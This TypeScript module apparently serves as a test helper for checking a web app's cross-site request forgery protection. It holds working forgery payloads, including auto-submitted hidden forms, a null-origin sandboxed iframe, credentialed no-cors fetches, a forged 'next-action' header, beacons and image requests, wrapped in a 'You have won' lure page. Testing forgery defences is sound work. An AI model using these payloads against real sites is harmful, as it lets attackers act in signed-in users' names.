/** A form of ours as whoever forges it knows it: where it is posted, and what it says. */
export type Target = { url: string; fields: Record<string, string> }

/** What one site's page can try with a form of another: scripts that find `url`, `fields` and these. */
const TOOLS = `
  const parts = () => Object.entries(fields).reduce((all, [name, value]) => (all.append(name, value), all), new FormData())
  const form = (attributes) => {
    const made = Object.assign(document.createElement('form'), { method: 'post', action: url, ...attributes })
    for (const [name, value] of Object.entries(fields))
      made.append(Object.assign(document.createElement('input'), { type: 'hidden', name, value }))
    document.body.append(made)
    return made
  }
  const post = (init) => fetch(url, { method: 'POST', credentials: 'include', ...init }).catch(() => {})`

export const FORGERIES: Record<string, string> = {
  'a form': 'form({}).submit()',
  'a form of several parts': `form({ enctype: 'multipart/form-data' }).submit()`,
  'a form of plain text': `form({ enctype: 'text/plain' }).submit()`,
  'a form in a frame without an origin': `
    const made = form({ enctype: 'multipart/form-data' })
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts allow-forms'
    frame.srcdoc = made.outerHTML + '<script>document.forms[0].submit()</scr' + 'ipt>'
    document.body.append(frame)`,
  'a form into a frame': `
    const frame = document.createElement('iframe')
    frame.name = 'frame'
    document.body.append(frame)
    form({ enctype: 'multipart/form-data', target: 'frame' }).submit()`,
  'a form into another window': `
    open('about:blank', 'other')
    form({ enctype: 'multipart/form-data', target: 'other' }).submit()`,
  'a form sent on with 307': `form({ enctype: 'multipart/form-data', action: '/on' }).submit()`,
  'a request of several parts': `post({ mode: 'no-cors', body: parts() })`,
  'a request of plain text': `post({ mode: 'no-cors', body: String(new URLSearchParams(fields)) })`,
  'a request that says which action': `
    post({ headers: { 'next-action': Object.keys(fields)[0] }, body: parts() })`,
  'a beacon': 'navigator.sendBeacon(url, parts())',
  'a picture': `new Image().src = url + '?' + new URLSearchParams(fields)`,
  'an address that is opened': `location.href = url + '?' + new URLSearchParams(fields)`,
}

/** The page another site shows to somebody who is signed in here. */
export function forgeryPage(name: string, { url, fields }: Target): string {
  const known = `const url = ${literal(url)}; const fields = ${literal(fields)}`
  const script = `<script>${known}\n${TOOLS}\n${FORGERIES[name]}</script>`
  return `<!doctype html><title>You have won</title><body>${script}`
}

function literal(value: unknown): string {
  return JSON.stringify(value).replaceAll('<', '\\u003c')
}
